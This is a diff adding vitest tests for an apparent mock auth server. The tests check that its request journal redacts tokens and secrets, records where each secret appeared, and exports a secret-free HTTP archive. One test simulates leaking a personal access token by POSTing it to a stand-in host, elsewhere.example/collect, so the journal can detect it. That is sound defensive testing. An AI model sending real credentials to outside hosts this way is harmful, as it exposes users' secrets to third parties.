@@ -1,0 +1,62 @@
+import { expect, test } from 'vitest'
+import { createWorld } from '../src/world/create-world.js'
+import { startServer } from '../src/server/start-server.js'
+import { callApi, json, requestToken } from './requests.js'
+import { rawHttp } from './raw-http.js'
+
+test('the journal shows the target as it was sent, and no secret of its query', async () => {
+  const world = createWorld()
+  await using server = await startServer({ worlds: [world] })
+  const target = `//api/2.0/x%2fy?audience=a%20b&token=${world.workspace.pat}&secret=abc&flag`
+  await rawHttp(server.port, [`GET ${target} HTTP/1.1`, `Host: 127.0.0.1:${server.port}`, 'Connection: close'])
+  expect(world.journal.entries[0]?.target).toBe('//api/2.0/x%2fy?audience=a%20b&token=[pat#1]&secret=[unknown#1]&flag')
+})
+
+test('a query says where a secret was seen: header, form, query, JSON body, path', async () => {
+  const world = createWorld()
+  const { host, pat } = world.workspace
+  const { access_token: token } = await json(await requestToken(world))
+  await callApi(world, token)
+  await world.fetch(`${host}/api/2.0/preview/scim/v2/Me?access_token=${token}`)
+  await world.fetch(`${host}/api/2.0/secrets/elsewhere/${pat}`)
+  await world.fetch('https://elsewhere.example/collect', {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ note: `the token is ${pat}` }),
+  })
+  const places = (name: string): readonly string[] =>
+    world.journal.sightings(name).map(({ authority, part }) => `${authority}: ${part}`)
+  const own = new URL(host).host
+  expect(places('client-secret#1')).toEqual([`${own}: header authorization`])
+  expect(places('access-token#1')).toEqual([`${own}: header authorization`, `${own}: query access_token`])
+  expect(places('pat#1')).toEqual([`${own}: target`, 'elsewhere.example: body'])
+})
+
+test('an export opens as an HTTP archive, without a secret', async () => {
+  const world = createWorld()
+  const { access_token: token } = await json(
+    await requestToken(world, { form: { grant_type: 'client_credentials', scope: 'all-apis', note: 'x' } }),
+  )
+  await callApi(world, `${token}x`)
+  const { log } = world.journal.har() as unknown as { log: { version: string; entries: Record<string, any>[] } }
+  expect(log.version).toBe('1.2')
+  expect(log.entries).toHaveLength(2)
+  const [granted, refused] = log.entries as [Record<string, any>, Record<string, any>]
+  expect(granted['request']).toMatchObject({
+    method: 'POST',
+    url: `${world.workspace.host}/oidc/v1/token`,
+    postData: { mimeType: expect.stringContaining('application/x-www-form-urlencoded') },
+  })
+  expect(granted['request'].postData.params).toContainEqual({ name: 'grant_type', value: 'client_credentials' })
+  expect(granted['request'].headers).toContainEqual({
+    name: 'authorization',
+    value: expect.stringMatching(/^\[client-secret#1, \d+ characters\]$/),
+  })
+  expect(refused).toMatchObject({
+    response: { status: 403 },
+    _lakeauth: { outcome: 'refused', reason: { code: 'bad-signature' } },
+  })
+  expect(Number.isNaN(Date.parse(refused['startedDateTime']))).toBe(false)
+  const text = JSON.stringify(log)
+  for (const { value } of world.canaries) expect(text).not.toContain(value)
+})
